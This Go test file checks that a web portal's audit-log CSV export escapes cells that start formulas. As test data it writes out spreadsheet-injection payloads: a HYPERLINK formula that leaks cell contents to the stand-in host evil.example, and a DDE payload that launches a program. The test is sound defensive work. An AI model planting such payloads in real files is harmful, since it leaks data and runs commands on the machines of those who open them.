package web_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/atrium-portal/atrium/app/audit"
)

// TestAuditCSVEscapesEveryCell: a name, an address or a summary that starts
// a formula comes out of the export as text, in every column.
func TestAuditCSVEscapesEveryCell(t *testing.T) {
	e := newEnv(t, nil)
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	if _, err := e.db.W.ExecContext(ctx, "UPDATE users SET name = ? WHERE email = 'ada@acme.test'", evil); err != nil {
		t.Fatal(err)
	}
	ada := e.client("acme.localhost").mustLogin("ada@acme.test", "demo-pass-1")
	acme, err := e.tenants.BySlug(ctx, "acme")
	if err != nil {
		t.Fatal(err)
	}
	if err := audit.Record(ctx, e.db.Tenant(acme.ID), audit.Who{Address: "@SUM(1+1)"}, audit.SettingsChange, "=cmd|' /C calc'!A0", 0, evil); err != nil {
		t.Fatal(err)
	}
	r := ada.get("/audit.csv")
	if r.status != 200 {
		t.Fatalf("export: %d", r.status)
	}
	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell starts a formula: %q", cell)
			}
			if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "SUM(") || strings.Contains(cell, "calc") {
				seen++
			}
		}
	}
	if seen < 3 {
		t.Errorf("the crafted cells are missing from the export (%d):\n%s", seen, r.body)
	}
}
